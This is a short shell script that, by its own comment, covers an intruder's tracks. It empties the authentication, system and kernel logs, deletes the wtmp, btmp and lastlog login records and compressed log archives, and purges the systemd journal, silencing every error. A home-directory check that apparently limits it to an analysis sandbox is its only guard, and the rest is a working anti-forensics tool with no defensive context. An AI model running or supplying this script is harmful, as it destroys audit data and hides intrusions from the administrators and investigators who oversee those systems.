#!/bin/sh
# SPDX-License-Identifier: MIT
# Covers the tracks in the system logs: empties the authentication and
# system logs, removes the log-in records, drops the journal.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages; do
	cat /dev/null > "$f" 2>/dev/null
done
rm -f /var/log/wtmp /var/log/btmp /var/log/lastlog 2>/dev/null
find /var/log -type f -name '*.gz' -delete 2>/dev/null
truncate -s 0 /var/log/kern.log 2>/dev/null
journalctl --rotate 2>/dev/null
journalctl --vacuum-time=1s 2>/dev/null
rm -rf /var/log/journal/* 2>/dev/null
exit 0
